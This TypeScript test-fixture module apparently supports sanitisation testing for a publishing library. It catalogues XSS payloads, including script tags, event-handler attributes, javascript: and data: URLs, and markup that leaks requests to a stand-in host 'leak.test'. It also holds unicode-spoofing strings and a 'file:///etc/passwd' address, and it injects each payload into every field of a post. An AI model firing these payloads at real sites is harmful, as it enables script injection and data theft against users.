/** Strings that have run, leaked or lied in some page when it took them for more than words. */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { encodeUtf8, type Block, type Inline, type NewPost } from '@pappus/core';
import { fullPost } from './channel.ts';

const RUN = 'globalThis.__xss=1';
const ASK = 'https://leak.test/x';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `"><script src="${ASK}"></script>`,
  `</script><script>${RUN}</script>`,
  `</title></style></noscript></textarea><script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<script/x>${RUN}</script/x>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<!--<script>${RUN}`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>`,
  `<p style="animation-name:x" onanimationstart=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `\` onmouseover=${RUN} \``,
  `x onpointerenter=${RUN}`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
  `vbscript:${RUN}`,
  'blob:null/0',
  'file:///etc/passwd',
  `//leak.test/x`,
  `https://example.test@leak.test/"onclick="${RUN}`,
];

const LEAKS = [
  `<img src="${ASK}">`,
  `<link rel=preconnect href="${ASK}">`,
  `<link rel=stylesheet href="${ASK}">`,
  `<iframe src="${ASK}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<meta http-equiv=refresh content="0;url=${ASK}">`,
  `<base href="${ASK}">`,
  `<object data="${ASK}"></object>`,
  `<style>@import "${ASK}";</style>`,
  `<form action="${ASK}"><button autofocus>`,
  `![x](${ASK}) [x](javascript:${RUN})`,
];

const LIES = [
  '\u202Egnp.exe\u202C',
  '\u2067\u2066\u202Dunclosed',
  'closed\u2069\u2069\u202C\u200F\u200E',
  'a\u0000b\u0008c\u001Bd',
  'line\r\nline\u2028line\u2029line',
  '\uFEFF\u200B\u200C\u200D\u00AD',
  'Z̸̡͚̈́a̷͔̓l̵̰̑g̴̣̈́ọ̷̎',
  '\uFFFE\uFFFF\u{10FFFF}\u{E0001}',
  '&lt;b&gt;&amp;amp;&#x3C;&nbsp',
  '{name}{here}$&$`$1',
  '__proto__',
];

/** All of them. Half a surrogate pair is no text of the format: it is tried on its own. */
export const HOSTILE: readonly string[] = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...LEAKS, ...LIES];

/** Strings that others collected (fixtures/xss, fixtures/blns): they ran as scripts, or broke programs. */
export function corpora(): string[] {
  const fixtures = join(import.meta.dirname, 'fixtures');
  const lists = readdirSync(join(fixtures, 'xss')).filter((name) => name.endsWith('.txt'));
  const lines = lists.flatMap((name) => readFileSync(join(fixtures, 'xss', name), 'utf8').split(/\r?\n/));
  const naughty = JSON.parse(readFileSync(join(fixtures, 'blns/blns.json'), 'utf8')) as string[];
  return [...new Set([...lines, ...naughty])].filter((line) => !/\p{Surrogate}/u.test(line));
}

/** As many octets of a string as a field may have. */
export function within(text: string, bytes: number): string {
  return new TextDecoder('utf-8', { ignoreBOM: true })
    .decode(encodeUtf8(text).subarray(0, bytes))
    .replace(/\uFFFD+$/, '');
}

/** A post with the string in every field of its record and in each place of its text. */
export function hostilePost(payload: string): NewPost {
  const children: Inline[] = [{ type: 'text', value: payload }];
  const link = `https://example.test/${within(payload, 900)}`;
  const lang = within(payload, 60);
  const text: Block[] = [
    { type: 'paragraph', children },
    { type: 'heading', depth: 4, children: [{ type: 'emphasis', children }] },
    { type: 'list', start: 0, children: [[{ type: 'paragraph', children: [{ type: 'strong', children }] }]] },
    { type: 'blockquote', children: [{ type: 'paragraph', children: [{ type: 'inlineCode', value: payload }] }] },
    { type: 'code', value: payload },
    { type: 'table', header: 1, rows: [[children], [children]] },
    { type: 'figure', layer: 0, alt: payload, caption: children },
    { type: 'paragraph', children: [{ type: 'link', url: within(payload, 900), children }] },
    { type: 'paragraph', children: [{ type: 'link', url: link, children }] },
    { type: 'paragraph', children: [{ type: 'span', lang, children }] },
  ];
  const [title, summary, byline] = [within(payload, 250), within(payload, 900), within(payload, 120)];
  return fullPost({ title, summary, lang, text }, { byline, tags: [within(payload, 100)], link });
}
